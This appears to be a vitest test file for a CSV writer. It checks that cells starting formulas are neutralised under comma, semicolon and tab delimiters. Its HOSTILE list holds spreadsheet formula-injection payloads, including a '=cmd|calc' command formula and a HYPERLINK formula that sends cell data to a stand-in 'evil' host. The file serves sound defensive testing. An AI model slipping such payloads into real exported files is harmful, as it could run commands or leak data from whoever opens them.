/** What another program makes of such a file, whichever sign it parts cells by. */
import { execFileSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { csvLine } from './csv.ts';

const READ = `
import csv, json, sys
text = sys.stdin.buffer.read().decode()
print(json.dumps([list(csv.reader(text.splitlines(True), delimiter=d)) for d in (',', ';', chr(9))]))
`;
const HOSTILE = [
  '=1+1',
  ' =1+1',
  'wget x;=cmd|calc',
  'a;=HYPERLINK("http://evil/?"&A1;"x")',
  'a;"=1+1"',
  'a\t@SUM(A1)',
  'a; \t+1',
  'one\r\n-1;=2',
  'x | =1+1',
  '"=1";"=2"',
  '＝1;＠x',
];

describe('a CSV file', () => {
  it('has no cell that begins a formula, and is whole where commas part cells', () => {
    const lines = HOSTILE.map((text) => csvLine(['root', text, 'end']));
    const input = lines.join('');
    const [commas, ...others] = JSON.parse(execFileSync('python3', ['-c', READ], { input, encoding: 'utf8' })) as [
      string[][],
      ...string[][][],
    ];
    expect(commas.map(([, text]) => text!.replaceAll("'", ''))).toEqual(HOSTILE);
    expect(commas.every((row) => row.length === 3)).toBe(true);
    expect(others.every((rows) => rows.some((row) => row.length > 1))).toBe(true);
    const formulas = [commas, ...others].flat(2).filter((cell) => /^["\s]*[=+\-@＝＋－＠]/.test(cell));
    expect(formulas).toEqual([]);
  });
});
